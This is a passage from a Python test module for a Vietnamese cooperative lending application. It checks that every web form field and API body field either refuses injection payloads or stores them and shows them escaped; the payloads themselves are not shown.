            rr.NoteForm, "board", lambda w, t: f"/removals/{t.id}/reject",
            lambda w, t: {"note": "Chưa đủ hồ sơ"}, ("note",), tag="[removal]",
            prefix=lambda t: "decide", target=pending_removal, used_up=True,
            view=lambda w, t, d, r: "/audit/?entity=off_balance_removal",
            viewer="controller",  # the audit log shows the note
        ),
        FormCase(
            rr.ReasonForm, "director", lambda w, t: f"/loans/{t.id}/removals",
            lambda w, t: {"reason": "Hết thời hạn theo dõi"}, ("reason",),
            prefix=lambda t: "removal", target=written_off_loan, after=_refuse_removal,
        ),
        FormCase(
            pf.OwnApplicationForm, "cooperative", lambda w, t: "/portal/applications/new",
            lambda w, t: dict(PROJECT), (*PROJECT_FIELDS, "documents"), also=CUSTOM,
            files={"documents": PDF_BYTES},
        ),
        FormCase(
            pf.UploadForm, "cooperative",
            lambda w, t: f"/portal/applications/{t.id}/documents", lambda w, t: {}, ("file",),
            files=pdf, target=own_draft, view=lambda w, t, d, r: f"/portal/applications/{t.id}",
        ),
        FormCase(
            pf.WithdrawForm, "cooperative",
            lambda w, t: f"/portal/applications/{t.id}/withdraw",
            lambda w, t: {"reason": "Đã vay được nơi khác"}, ("reason",),
            target=own_draft, used_up=True,
        ),
        FormCase(
            pf.ContactForm, "cooperative", lambda w, t: "/portal/profile",
            lambda w, t: {"phone": "0912345678", "email": "htx@example.vn",
                          "address": "Thôn Đồng Lạc"},
            ("phone", "email", "address"), batch=1,
        ),
        FormCase(
            PlanForm, "accountant", lambda w, t: "/plans/new",
            lambda w, t: {**_plan(w, t), "year": str(next(_plan_years))}, ("year",),
            must_refuse=True, refuses_all=True, tag="[new]",  # no payload is a year
        ),
        FormCase(
            PlanForm, "accountant", lambda w, t: f"/plans/{w.extra['plan'].id}", _plan,
            ("note", *PLAN_LINES), batch=1, tag="[edit]",
        ),
        FormCase(
            cw.MeetingForm, "board", lambda w, t: "/committee",
            lambda w, t: {**MEETING, "quarter": "2026-Q2"}, ("quarter",),
            must_refuse=True, refuses_all=True, tag="[open]",  # no payload is a quarter
        ),
        FormCase(
            cw.MeetingForm, "board", _meeting_url, lambda w, t: dict(MEETING),
            ("held_on", "place", "members", "minutes"), batch=1, tag="[edit]",
        ),
        FormCase(
            cw.DecisionForm, "board",
            lambda w, t: f"{_meeting_url(w)}/decisions/{t.id}",
            lambda w, t: {"decision": "defer", "reason": "Cần thêm hồ sơ"},
            ("decision", "reason"), prefix=lambda t: f"d{t.id}",
            target=lambda w: write_off_proposal(w), batch=1,
        ),
        FormCase(
            # The wording is a template of the PDFs, never of a page: a payload is refused
            # (a template error) or kept as typed and shown escaped on the editor's page.
            TemplateForm, "director", lambda w, t: f"/admin/forms/{WORDING}",
            lambda w, t: {"body": w.extra["wording"], "note": "Sửa lời văn theo quy chế"},
            ("body", "note"), batch=1,
        ),
        FormCase(
            sf.SchemeForm, "director", lambda w, t: "/support/new",
            lambda w, t: {**SCHEME, "code": f"HT{next(_scheme_codes)}"},
            ("name", "legal_basis", "paying_agency", "code", "purposes", "share", "first_due",
             "last_due", "cap_per_loan", "borrower_kinds"),
            not_shown={"code": "kept in capitals", "purposes": "kept folded (no accents)"},
        ),
        FormCase(
            # No payload names a contract: refused, the form shown again with its message.
            sf.EnrolForm, "director", lambda w, t: f"{_scheme_url(w)}/enrol",
            lambda w, t: {"contract_no": "HD-KHONG-CO", "first_due": ""},
            ("contract_no", "first_due"), prefix=lambda t: "enrol",
            must_refuse=True, refuses_all=True,
        ),
        FormCase(
            # The active loan has no support to stop: refused, the message on the page.
            sf.StopForm, "director", lambda w, t: f"/support/loans/{w.active.id}/stop",
            lambda w, t: {"last_due": _today(), "reason": "Sai mục đích"},
            ("last_due", "reason"), prefix=lambda t: "stop",
            accepted=lambda r: False, refuses_all=True,
        ),
        FormCase(
            # Nothing billed to the budget: no claim is filed, whatever the note says.
            sf.ClaimForm, "accountant", lambda w, t: f"{_scheme_url(w)}/claims",
            lambda w, t: {"period_to": "31/10/2026", "note": "Quý III"},
            ("period_to", "note"), prefix=lambda t: "claim",
            must_refuse=True, refuses_all=True,
        ),
        FormCase(
            sf.PaymentForm, "accountant",
            lambda w, t: f"/support/claims/{w.extra['claim'].id}/paid",
            lambda w, t: {"paid_on": LATER, "reference": "UNC 12"},
            ("paid_on", "reference"), prefix=lambda t: "pay",
            accepted=lambda r: False, refuses_all=True,
        ),
        FormCase(
            # A PDF is no statement, whatever its name; no payload is a bank's code.
            bw.UploadForm, "accountant", lambda w, t: "/bank/upload",
            lambda w, t: {"bank": "AGRIBANK"}, ("bank", "file"), files=pdf,
            must_refuse=True, refuses_all=True,
        ),
        FormCase(
            # Ignoring a credit keeps its reason, shown on the statement's page; no payload is
            # an action, and the contract number is only read to find a loan to assign.
            bw.LineForm, "accountant", lambda w, t: f"/bank/lines/{t.id}",
            lambda w, t: {"action": "ignore", "contract_no": "", "note": "Không phải trả nợ"},
            ("action", "contract_no", "note"), target=lambda w: bank_line(w), used_up=True,
            not_shown={"contract_no": "read to find a loan, never stored"},
        ),
        FormCase(
            bw.DecideForm, "director", lambda w, t: f"/bank/batches/{t.id}/reject",
            lambda w, t: {"reason": "Chuyển nhầm"}, ("reason",), prefix=lambda t: "decide",
            target=lambda w: pending_bank_batch(w), used_up=True,
        ),
        FormCase(
            RankingForm, "director", lambda w, t: f"/ranking/{RANKED_YEAR}",
            lambda w, t: {**dict.fromkeys(COMPLIANCE_CODES, "y"), "note": "Họp ngày 10/05"},
            ("note",), batch=1,
        ),
    ]  # fmt: skip


FORM_CASES = _form_cases()
# Forms with nothing to type: the CSRF token and a button.
BUTTONS = {
    "fundapp.lending.application_forms.SubmitForm",
    "fundapp.planning.forms.ApproveForm",
    "fundapp.web.committee.CloseForm",
    "fundapp.lending.forms.ConfirmForm",
    "fundapp.portal.forms.ConfirmForm",
    "fundapp.web.notices.MarkReadForm",
    "fundapp.web.servicing.RunForm",
    "fundapp.web.banking.PostForm",
}
# Base classes never instantiated on their own, covered through their subclasses.
BASES = {"fundapp.lending.application_forms.ProjectFields"}


def _qualified(cls: type) -> str:
    return f"{cls.__module__}.{cls.__qualname__}"


def _app_forms() -> dict[str, type[FlaskForm]]:
    """Every FlaskForm subclass defined in fundapp's modules."""
    found: dict[str, type[FlaskForm]] = {}
    for info in pkgutil.walk_packages(fundapp.__path__, "fundapp."):
        module = importlib.import_module(info.name)
        for _name, cls in inspect.getmembers(module, inspect.isclass):
            if issubclass(cls, FlaskForm) and cls.__module__ == module.__name__:
                found[_qualified(cls)] = cls
    return found


def _typed_fields(form: type[FlaskForm], app: Flask) -> set[str]:
    """The fields a user types or picks: all but the CSRF token and check boxes."""
    with app.test_request_context():
        instance = form(meta={"csrf": False})
        return {
            f.name
            for f in instance
            if not isinstance(f, (CSRFTokenField, BooleanField)) and f.name != "csrf_token"
        }


def test_every_form_class_and_every_typed_field_is_attacked() -> None:
    app = make_app()
    covered: dict[str, set[str]] = {}
    for case in FORM_CASES:
        covered.setdefault(_qualified(case.form), set()).update(case.fields)
    forms = _app_forms()
    missing = sorted(set(forms) - set(covered) - BUTTONS - BASES)
    assert not missing, f"form classes with no injection case: {missing}"
    assert not (set(covered) | BUTTONS | BASES) - set(forms), "a case names a form that is gone"
    for name in BUTTONS:
        assert _typed_fields(forms[name], app) == set(), f"{name} now has fields to attack"
    for name, fields in covered.items():
        assert fields == _typed_fields(forms[name], app), f"{name}: fields not all attacked"


@pytest.fixture(scope="module")
def web_problems(world: World) -> dict[str, list[str]]:
    return {case.name: run_form_case(world, case) for case in FORM_CASES}


@pytest.mark.parametrize("case", [c.name for c in FORM_CASES])
def test_form_payloads_are_refused_or_stored_and_shown_escaped(
    web_problems: dict[str, list[str]], case: str
) -> None:
    problems = web_problems[case]
    assert not problems, "\n".join(problems)


# --- stored through the API ---------------------------------------------------------------------

API = "/api/v1"


@dataclass(frozen=True)
class ApiCase:
    """One API operation: each string field of its body gets each payload in turn, the
    others valid; what is stored must come back escaped on the web page ``view`` names."""

    op: str  # "POST /cooperatives/{coop_id}": the operation as the OpenAPI document names it
    role: str
    path: Callable[[World, Any], str]
    body: Callable[[World, Any], dict[str, Any]]
    fields: tuple[str, ...]
    view: Callable[[World, Any, dict[str, Any], dict], str] | None = None
    viewer: str = ""
    target: Callable[[World], Any] | None = None
    used_up: bool = False
    after: Callable[[World, Any, dict[str, Any], dict], None] | None = None
    not_shown: dict[str, str] = field(default_factory=dict)
    refuses_all: bool = False
    batch: int = 10
    upload: bool = False  # multipart: the payload is the file's name
    tag: str = ""

    @property
    def name(self) -> str:
        return self.op + self.tag


def _send(world: World, case: ApiCase, target: Any, body: dict[str, Any]) -> Any:
    method, _path = case.op.split(" ", 1)
    headers = world.api[case.role] if case.role else {}
    address = {"REMOTE_ADDR": f"198.51.100.{unique() % 250 + 1}"}
    url = API + case.path(world, target)
    if case.upload:
        return world.api_client.post(url, headers=headers, data=body, environ_overrides=address)
    return world.api_client.open(
        url, method=method, headers=headers, json=body, environ_overrides=address
    )


def _check_json(response: Any, where: str) -> list[str]:
    problems = []
    if response.status_code >= 500:
        problems.append(f"{where}: answered {response.status_code}")
    if response.status_code == 204 and not response.data:
        return problems
    if response.mimetype != "application/json":
        problems.append(f"{where}: answered {response.mimetype}, not application/json")
    elif response.status_code >= 400 and not (response.get_json() or {}).get("error", {}).get(
        "message"
    ):
        problems.append(f"{where}: refused without a message")
    return problems


def run_api_case(world: World, case: ApiCase) -> list[str]:
    problems: list[str] = []
    waiting: dict[str, list[tuple[str, str]]] = {}
    looked = 0
    target = None
    viewer = world.web[case.viewer or case.role or "admin"]

    def look(url: str) -> None:
        page = viewer.get(url)
        problems.extend(_check(page, url))
        body = body_of(page)
        problems.extend(
            f"{where}: stored, not shown escaped on {url}"
            for where, text in waiting.pop(url)
            if text not in body
        )

    for name in case.fields:
        for payload in PAYLOADS:
            if target is None and case.target is not None:
                target = case.target(world)
            body = case.body(world, target)
            expected = shown_as(payload)
            if case.upload:
                body[name] = (io.BytesIO(PDF_BYTES), _as_sent(_file_name(payload, PDF_BYTES)))
                expected = shown_as(clean_name(_file_name(payload, PDF_BYTES)))
            else:
                body[name] = payload
            where = f"{case.op}.{name} = {label(payload)}"
            response = _send(world, case, target, body)
            problems += _check_json(response, where)
            if response.status_code >= 300:
                db.session.rollback()
                continue
            if case.view is not None and name not in case.not_shown:
                url = case.view(world, target, body, response.get_json())
                looked += 1
                waiting.setdefault(url, []).append((where, expected))
                if len(waiting[url]) >= case.batch:
                    look(url)
            if case.after is not None:
                case.after(world, target, body, response.get_json())
            if case.used_up:
                target = None
    for url in list(waiting):
        look(url)
    if case.view is not None and not looked and not case.refuses_all:
        problems.append(f"{case.name}: no payload was stored, so none was looked for")
    return problems


def active_loan(world: World, on: date = date(2026, 1, 10)) -> Loan:
    loan = contracted_loan(world.staff, on=on)
    disburse(world.staff, loan, loan.amount, on)
    return loan


def new_repayment(world: World) -> Any:
    repayment = rs.record_repayment(
        world.users["accountant"], world.active.id,
        {"amount": 100_000, "date": BUSINESS_DATE}, BUSINESS_DATE,
    )  # fmt: skip
    db.session.commit()
    return repayment


def bank_line(world: World) -> Any:
    """A credit of a new statement (its own transaction id), assigned to the active loan."""
    txn = f"FT29{unique():06d}"
    data = agribank_csv([(txn, BUSINESS_DATE, "", "100.000", "chuyen tien", "", "")])
    statement = bank.import_statement(world.users["accountant"], "AGRIBANK", f"{txn}.csv", data)
    line = bank.statement_lines(statement.statement.id)[0]
    bank.correct_line(world.users["accountant"], line.id, "assign", world.active.id)
    db.session.commit()
    return line


def pending_bank_batch(world: World) -> Any:
    """That line sent to posting: a batch waiting for the director (the default policy)."""
    line = bank_line(world)
    batch = bank_posting.post_batch(world.users["accountant"], line.statement_id, BUSINESS_DATE)
    db.session.commit()
    return batch.batch


def pending_reversal(world: World) -> Any:
    reversal = rs.request_reversal(world.users["accountant"], new_repayment(world).id, "Ghi nhầm")
    db.session.commit()
    return reversal


def pending_restructuring(world: World) -> Any:
    loan = active_loan(world)
    item = restructuring.request_restructuring(
        world.users["officer"], loan.id,
        {"kind": "extension", "effective_date": BUSINESS_DATE,
         "new_maturity": date(2027, 7, 10), "reason": "Mất mùa do rét đậm"},
        BUSINESS_DATE,
    )  # fmt: skip
    db.session.commit()
    return item


def write_off_proposal(world: World) -> Any:
    loan = active_loan(world, on=date(2025, 1, 6))
    item = writeoffs.propose_write_off(
        world.users["director"], loan.id, "Mất khả năng trả nợ", BUSINESS_DATE
    )
    db.session.commit()
    return item


def _refuse_write_off(world: World, loan: Loan, body: dict, answer: dict) -> None:
    """The old loan takes one proposal at a time: the board turns each down."""
    writeoffs.decide_write_off(
        world.users["board"], answer["id"], False, "Chưa đủ hồ sơ", BUSINESS_DATE
    )
    db.session.commit()


def _api_cancel(world: World, app: Application, body: dict, answer: dict) -> None:
    _cancel_loan(world, app, body)


def _api_new_password(world: World, target: dict, body: dict, answer: dict) -> None:
    target["current"] = body["new_password"]
    # A new password revokes every token of the user, the one that changed it too.
    raw, _token = issue_token(world.users["password_api"], 12, "kiểm thử")
    db.session.commit()
    world.api["password_api"] = {"Authorization": f"Bearer {raw}"}


def _loan_of(item: Any) -> str:
    return f"/loans/{item.loan_id if hasattr(item, 'loan_id') else item.repayment.loan_id}"


def _cooperative_body(world: World, target: Any) -> dict[str, Any]:
    data = _cooperative(world, target)
    data["members_count"] = 12
    data["related_group_id"] = None
    return data


API_PROJECT = {
    "project_name": "Nhà sơ chế vải thiều", "purpose": "Mua máy sấy",
    "description": "Sơ chế và sấy vải thiều", "total_project_cost": 500_000_000,
    "own_equity": 200_000_000, "requested_amount": 240_000_000, "term_months": 12,
    "annual_rate": "6", "principal_method": "equal_principal",
    "collateral_offered": "Quyền sử dụng đất",
}  # fmt: skip
APPLICATION_TEXT = ("project_name", "purpose", "description", "annual_rate",
                    "principal_method", "collateral_offered")  # fmt: skip
COOPERATIVE_TEXT = ("name", "kind", "registration_no", "tax_code", "commune_code",
                    "address", "sector", "representative", "phone", "email", "bank_account",
                    "bank_name")  # fmt: skip


def _on_loan(world: World, item: Any, body: dict, answer: dict) -> str:
    return _loan_of(item)


def _applications_page(world: World, target: Any, body: dict, answer: dict) -> str:
    return f"/applications/{target.id}"


API_CASES = [
    ApiCase(
        "POST /tokens", "", lambda w, t: "/tokens",
        lambda w, t: {"username": w.users["token"].username, "password": PASSWORD,
                      "name": "Máy chủ CSDL HTX"},
        ("name", "username", "password"), viewer="admin",
        view=lambda w, t, b, a: f"/admin/users/{w.users['token'].id}",
        not_shown={"username": "a wrong login", "password": "a password"},
    ),
    ApiCase(
        "POST /me/password", "password_api", lambda w, t: "/me/password",
        lambda w, t: {"current_password": t["current"], "new_password": GOOD_PASSWORD},
        ("current_password", "new_password"), target=lambda w: {"current": PASSWORD},
        after=_api_new_password,
    ),
    ApiCase(
        "POST /users", "admin", lambda w, t: "/users",
        lambda w, t: {"username": f"apiuser{unique()}", "password": GOOD_PASSWORD,
                      "full_name": "Lê Văn Cường", "email": f"api{unique()}@example.vn",
                      "roles": ["officer"]},
        ("username", "password", "full_name", "email"),
        view=lambda w, t, b, a: f"/admin/users/{a['id']}", not_shown={"password": "a password"},
    ),
    ApiCase(
        "PATCH /users/{user_id}", "admin", lambda w, t: f"/users/{t.id}",
        lambda w, t: {"full_name": "Lê Văn Cường", "email": "cuong@example.vn"},
        ("full_name", "email"), target=lambda w: make_user("officer"), batch=1,
        view=lambda w, t, b, a: f"/admin/users/{t.id}",
    ),
    ApiCase(
        "POST /users/{user_id}/password", "admin", lambda w, t: f"/users/{t.id}/password",
        lambda w, t: {"new_password": GOOD_PASSWORD}, ("new_password",),
        target=lambda w: make_user("officer"),
    ),
    ApiCase(
        "POST /policy/{key}/versions", "board", lambda w, t: "/policy/late_interest_rate/versions",
        lambda w, t: {"value": "10",
                      "effective_from": (BUSINESS_DATE + timedelta(days=unique())).isoformat(),
                      "legal_reference": "Quyết định số 16/QĐ-HĐQL", "note": "Điều chỉnh"},
        ("value", "effective_from", "legal_reference", "note"),
        view=lambda w, t, b, a: "/policy/late_interest_rate",
    ),
    ApiCase(
        "POST /policy-changes/{change_id}/approve", "board",
        lambda w, t: f"/policy-changes/{t.id}/approve", lambda w, t: {"note": "Đồng ý"},
        ("note",), target=pending_policy_change, used_up=True,
        view=lambda w, t, b, a: "/policy/due_soon_days",
    ),
    ApiCase(
        "POST /policy-changes/{change_id}/reject", "board",
        lambda w, t: f"/policy-changes/{t.id}/reject", lambda w, t: {"reason": "Chưa đủ căn cứ"},
        ("reason",), target=pending_policy_change, used_up=True,
        view=lambda w, t, b, a: "/policy/due_soon_days",
    ),
    ApiCase(
        "POST /cooperatives", "officer", lambda w, t: "/cooperatives", _cooperative_body,
        COOPERATIVE_TEXT, view=lambda w, t, b, a: f"/cooperatives/{a['id']}",
    ),
    ApiCase(
        "PATCH /cooperatives/{coop_id}", "officer", lambda w, t: f"/cooperatives/{t.id}",
        lambda w, t: {"name": "HTX Sửa đổi", "sector": "Nuôi gà đồi"}, COOPERATIVE_TEXT,
        target=lambda w: make_cooperative(), batch=1,
        view=lambda w, t, b, a: f"/cooperatives/{t.id}",
    ),
    ApiCase(
        "PATCH /cooperatives/{coop_id}/contact", "cooperative",
        lambda w, t: f"/cooperatives/{w.coop.id}/contact",
        lambda w, t: {"phone": "0912345678", "email": "htx@example.vn", "address": "Thôn Đồng"},
        ("phone", "email", "address"), batch=1, view=lambda w, t, b, a: "/portal/profile",
    ),
    ApiCase(
        "POST /related-groups", "officer", lambda w, t: "/related-groups",
        lambda w, t: {"name": f"Nhóm API {unique()}", "note": "Cùng gia đình"}, ("name", "note"),
        view=lambda w, t, b, a: "/cooperatives/groups",
    ),
    ApiCase(
        "POST /capital-entries", "accountant", lambda w, t: "/capital-entries",
        lambda w, t: {"source": "entrusted", "amount": 1_000_000,
                      "date": BUSINESS_DATE.isoformat(), "source_name": "Liên minh HTX",
                      "reference": f"API-{unique()}", "note": "Ủy thác"},
        ("source", "date", "source_name", "reference", "note", "origin_fund"),
        view=lambda w, t, b, a: "/capital",
    ),
    ApiCase(
        "POST /funds", "accountant", lambda w, t: "/funds",
        lambda w, t: {"code": f"Q{unique()}", "name": "Quỹ hỗ trợ HTX tỉnh cũ",
                      "note": "Tiếp nhận theo quyết định sáp nhập"},
        ("code", "name", "note"), view=lambda w, t, b, a: "/reports/par",
        not_shown={"note": "a fund's note is shown on no page"},
    ),
    ApiCase(
        "POST /close-day", "accountant", lambda w, t: "/close-day",
        lambda w, t: {"date": BUSINESS_DATE.isoformat()}, ("date",), refuses_all=True,
    ),
    ApiCase(
        "POST /applications", "officer", lambda w, t: "/applications",
        lambda w, t: {**API_PROJECT, "cooperative_id": w.coop.id}, APPLICATION_TEXT,
        view=lambda w, t, b, a: f"/applications/{a['id']}",
    ),
    ApiCase(
        "PATCH /applications/{app_id}", "officer", lambda w, t: f"/applications/{t.id}",
        lambda w, t: {"project_name": "Nhà sơ chế mới"}, APPLICATION_TEXT,
        target=new_application, batch=1, view=_applications_page,
    ),
    ApiCase(
        "POST /applications/{app_id}/appraise", "appraiser",
        lambda w, t: f"/applications/{t.id}/appraise",
        lambda w, t: {"recommended_amount": 240_000_000, "note": "Khả thi"}, ("note",),
        target=lambda w: new_application(w, "submitted"), used_up=True, view=_applications_page,
    ),
    ApiCase(
        "POST /applications/{app_id}/approve", "director",
        lambda w, t: f"/applications/{t.id}/approve", lambda w, t: {"note": "Đồng ý"},
        ("note",), target=lambda w: new_application(w, "appraised"), used_up=True,
        view=_applications_page, tag="[note]",
    ),
    ApiCase(
        "POST /applications/{app_id}/approve", "board",
        lambda w, t: f"/applications/{t.id}/approve",
        lambda w, t: {"note": "Đồng ý", "override_reason": "Dự án trọng điểm"},
        ("override_reason",), target=over_limit_application, used_up=True,
        view=_applications_page, after=_api_cancel, tag="[override]",
    ),
    ApiCase(
        "POST /applications/{app_id}/reject", "director",
        lambda w, t: f"/applications/{t.id}/reject", lambda w, t: {"reason": "Thiếu hồ sơ"},
        ("reason",), target=lambda w: new_application(w, "appraised"), used_up=True,
        view=_applications_page,
    ),
    ApiCase(
        "POST /applications/{app_id}/withdraw", "officer",
        lambda w, t: f"/applications/{t.id}/withdraw", lambda w, t: {"reason": "HTX xin rút"},
        ("reason",), target=new_application, used_up=True, view=_applications_page,
    ),
    ApiCase(
        "POST /applications/{app_id}/documents", "officer",
        lambda w, t: f"/applications/{t.id}/documents", lambda w, t: {}, ("file",),
        target=new_application, upload=True, view=_applications_page,
    ),
    ApiCase(
        "POST /imports/loans", "accountant", lambda w, t: "/imports/loans?dry_run=true",
        lambda w, t: {}, ("file",), upload=True,
    ),
    ApiCase(
        "POST /loans/{loan_id}/cancel", "director", lambda w, t: f"/loans/{t.id}/cancel",
        lambda w, t: {"reason": "HTX không nhận vốn"}, ("reason",), target=approved_loan,
        used_up=True, view=lambda w, t, b, a: f"/loans/{t.id}", viewer="everyone",
    ),
    ApiCase(
        "POST /loans/{loan_id}/contract", "officer", lambda w, t: f"/loans/{t.id}/contract",
        lambda w, t: {"contract_date": BUSINESS_DATE.isoformat(), "repayment_order": "standard"},
        ("contract_date", "repayment_order"), target=approved_loan, used_up=True,
        refuses_all=True,
    ),
    ApiCase(
        "PATCH /loans/{loan_id}", "officer", lambda w, t: f"/loans/{t.id}",
        lambda w, t: {"repayment_order": "principal_first"}, ("repayment_order",),
        target=approved_loan, refuses_all=True,
    ),
    ApiCase(
        "POST /loans/{loan_id}/collateral", "officer",
        lambda w, t: f"/loans/{w.active.id}/collateral",
        lambda w, t: {"kind": "Nhà xưởng", "description": "Nhà xưởng 200 m²",
                      "valuation": 300_000_000, "discount_factor": "0.5"},
        ("kind", "description", "discount_factor"),
        view=lambda w, t, b, a: f"/loans/{w.active.id}",
    ),
    ApiCase(
        "POST /loans/{loan_id}/inspections", "officer",
        lambda w, t: f"/loans/{w.active.id}/inspections",
        lambda w, t: {"inspected_on": BUSINESS_DATE.isoformat(), "finding": "proper",
                      "notes": "Đúng mục đích"},
        ("inspected_on", "finding", "notes"), view=lambda w, t, b, a: f"/loans/{w.active.id}",
    ),
    ApiCase(
        "POST /loans/{loan_id}/disbursements", "accountant",
        lambda w, t: f"/loans/{w.contracted.id}/disbursements",
        lambda w, t: {"amount": 1_000_000, "date": BUSINESS_DATE.isoformat(),
                      "reference": "UNC-API"},
        ("date", "reference"), view=lambda w, t, b, a: f"/loans/{w.contracted.id}",
    ),
    ApiCase(
        "POST /disbursements/{disbursement_id}/reject", "director",
        lambda w, t: f"/disbursements/{t.id}/reject", lambda w, t: {"reason": "Sai tài khoản"},
        ("reason",), target=pending_disbursement, used_up=True, view=_on_loan,
        viewer="everyone",
    ),
    ApiCase(
        "POST /loans/{loan_id}/repayments", "accountant",
        lambda w, t: f"/loans/{w.active.id}/repayments",
        lambda w, t: {"amount": 100_000, "date": BUSINESS_DATE.isoformat(), "method": "bank",
                      "reference": "GBC-API"},
        ("date", "method", "reference"), view=lambda w, t, b, a: f"/loans/{w.active.id}",
    ),
    ApiCase(
        "POST /repayments/{repayment_id}/reverse", "accountant",
        lambda w, t: f"/repayments/{t.id}/reverse", lambda w, t: {"reason": "Ghi nhầm"},
        ("reason",), target=new_repayment, used_up=True, view=_on_loan, viewer="everyone",
    ),
    ApiCase(
        "POST /reversals/{reversal_id}/approve", "director",
        lambda w, t: f"/reversals/{t.id}/approve", lambda w, t: {"note": "Đồng ý hủy"},
        ("note",), target=pending_reversal, used_up=True, view=_on_loan, viewer="everyone",
    ),
    ApiCase(
        "POST /reversals/{reversal_id}/reject", "director",
        lambda w, t: f"/reversals/{t.id}/reject", lambda w, t: {"reason": "Không có căn cứ"},
        ("reason",), target=pending_reversal, used_up=True, view=_on_loan, viewer="everyone",
    ),
    ApiCase(
        "POST /loans/{loan_id}/restructurings", "officer",
        lambda w, t: f"/loans/{w.active.id}/restructurings",
        lambda w, t: {"kind": "extension", "effective_date": BUSINESS_DATE.isoformat(),
                      "new_maturity": "2027-07-10", "reason": "Mất mùa"},
        ("kind", "effective_date", "new_maturity", "reason"),
        view=lambda w, t, b, a: f"/loans/{w.active.id}",
    ),
    ApiCase(
        "POST /restructurings/{restructuring_id}/approve", "director",
        lambda w, t: f"/restructurings/{t.id}/approve", lambda w, t: {"note": "Đồng ý"},
        ("note",), target=pending_restructuring, used_up=True, view=_on_loan,
        viewer="controller",  # the loan's audit log shows the note
    ),
    ApiCase(
        "POST /restructurings/{restructuring_id}/reject", "director",
        lambda w, t: f"/restructurings/{t.id}/reject", lambda w, t: {"reason": "Chưa đủ căn cứ"},
        ("reason",), target=pending_restructuring, used_up=True, view=_on_loan,
        viewer="controller",  # the loan's audit log shows the reason
    ),
    ApiCase(
        "POST /loans/{loan_id}/write-offs", "director",
        lambda w, t: f"/loans/{w.old.id}/write-offs",
        lambda w, t: {"reason": "Mất khả năng trả nợ"}, ("reason",), after=_refuse_write_off,
        view=lambda w, t, b, a: f"/loans/{w.old.id}", viewer="everyone",
    ),
    ApiCase(
        "POST /write-offs/{write_off_id}/approve", "board",
        lambda w, t: f"/write-offs/{t.id}/approve", lambda w, t: {"note": "Đồng ý xử lý"},
        ("note",), target=write_off_proposal, used_up=True, view=_on_loan,
        viewer="controller",  # the loan's audit log shows the note
    ),
    ApiCase(
        "POST /loans/{loan_id}/interest-reliefs", "officer",
        lambda w, t: f"/loans/{t.id}/interest-reliefs", lambda w, t: dict(RELIEF),
        ("kind", "reason_code", "reason", "evidence"), target=relief_loan,
        after=lambda w, t, b, a: _refuse_relief(w, t, b),
        view=lambda w, t, b, a: f"/loans/{t.id}/relief",
    ),
    ApiCase(
        "POST /interest-reliefs/{relief_id}/approve", "director",
        lambda w, t: f"/interest-reliefs/{t.id}/approve", lambda w, t: {"note": "Đồng ý"},
        ("note",), target=pending_relief, used_up=True,
        view=lambda w, t, b, a: "/audit/?entity=interest_relief",
        viewer="controller",  # the audit log shows the note
    ),
    ApiCase(
        "POST /interest-reliefs/{relief_id}/reject", "director",
        lambda w, t: f"/interest-reliefs/{t.id}/reject", lambda w, t: {"reason": "Chưa đủ"},
        ("reason",), target=pending_relief, used_up=True,
        view=lambda w, t, b, a: "/audit/?entity=interest_relief",
        viewer="controller",  # the audit log shows the reason
    ),
    ApiCase(
        "POST /loans/{loan_id}/removals", "director", lambda w, t: f"/loans/{t.id}/removals",
        lambda w, t: {"reason": "Hết thời hạn theo dõi"}, ("reason",),
        target=written_off_loan, after=lambda w, t, b, a: _refuse_removal(w, t, b),
        view=lambda w, t, b, a: f"/loans/{t.id}/relief",
    ),
    ApiCase(
        "POST /removals/{removal_id}/approve", "board",
        lambda w, t: f"/removals/{t.id}/approve", lambda w, t: {"note": "Đồng ý xuất toán"},
        ("note",), target=pending_removal, used_up=True,
        view=lambda w, t, b, a: "/audit/?entity=off_balance_removal",
        viewer="controller",  # the audit log shows the note
    ),
    ApiCase(
        "POST /removals/{removal_id}/reject", "board",
        lambda w, t: f"/removals/{t.id}/reject", lambda w, t: {"reason": "Chưa đủ hồ sơ"},
        ("reason",), target=pending_removal, used_up=True,
        view=lambda w, t, b, a: "/audit/?entity=off_balance_removal",
        viewer="controller",  # the audit log shows the reason
    ),
    ApiCase(
        "POST /write-offs/{write_off_id}/reject", "board",
        lambda w, t: f"/write-offs/{t.id}/reject", lambda w, t: {"reason": "Còn thu được"},
        ("reason",), target=write_off_proposal, used_up=True, view=_on_loan,
        viewer="controller",  # the loan's audit log shows the reason
    ),
    ApiCase(
        "POST /plans", "accountant", lambda w, t: "/plans",
        lambda w, t: {"year": next(_plan_years), "note": "Kế hoạch năm"}, ("note",),
        view=lambda w, t, b, a: f"/plans/{a['id']}",
    ),
    ApiCase(
        "PATCH /plans/{plan_id}", "accountant", lambda w, t: f"/plans/{w.extra['plan'].id}",
        lambda w, t: {"note": "Sửa kế hoạch"}, ("note",), batch=1,
        view=lambda w, t, b, a: f"/plans/{w.extra['plan'].id}",
    ),
    ApiCase(
        "POST /ranking/{year}", "director", lambda w, t: f"/ranking/{RANKED_YEAR}",
        lambda w, t: {"compliance": dict.fromkeys(COMPLIANCE_CODES, True), "note": "Đã họp"},
        ("note",), batch=1, view=lambda w, t, b, a: f"/reports/ranking?year={RANKED_YEAR}",
    ),
    ApiCase(
        "POST /support-schemes", "director", lambda w, t: "/support-schemes",
        lambda w, t: {**SCHEME, "code": f"HTA{next(_scheme_codes)}"},
        ("name", "legal_basis", "paying_agency", "code", "share", "first_due", "last_due"),
        view=lambda w, t, b, a: f"/support/{a['id']}", not_shown={"code": "kept in capitals"},
    ),
    ApiCase(
        "POST /loans/{loan_id}/support", "director", lambda w, t: f"/loans/{w.active.id}/support",
        lambda w, t: {"scheme_id": w.extra["scheme"].id, "first_due": "2026-12-31"},
        ("first_due",), refuses_all=True,  # an active loan: not from a day before today
    ),
    ApiCase(
        "POST /loans/{loan_id}/support/stop", "director",
        lambda w, t: f"/loans/{w.active.id}/support/stop",
        lambda w, t: {"last_due": "2026-12-31", "reason": "Sai mục đích"},
        ("last_due", "reason"), refuses_all=True,  # the loan has no support
    ),
    ApiCase(
        "POST /support-schemes/{scheme_id}/claims", "accountant",
        lambda w, t: f"/support-schemes/{w.extra['scheme'].id}/claims",
        lambda w, t: {"period_to": "2026-10-31", "note": "Quý III"},
        ("period_to", "note"), refuses_all=True,  # nothing billed to claim
    ),
    ApiCase(
        "POST /support-claims/{claim_id}/payment", "accountant",
        lambda w, t: f"/support-claims/{w.extra['claim'].id}/payment",
        lambda w, t: {"paid_on": "2030-12-31", "reference": "UNC 12"},
        ("paid_on", "reference"), refuses_all=True,  # a day after the business date
    ),
    # Bank statements: no page shows them yet; what is stored comes back in JSON only. A
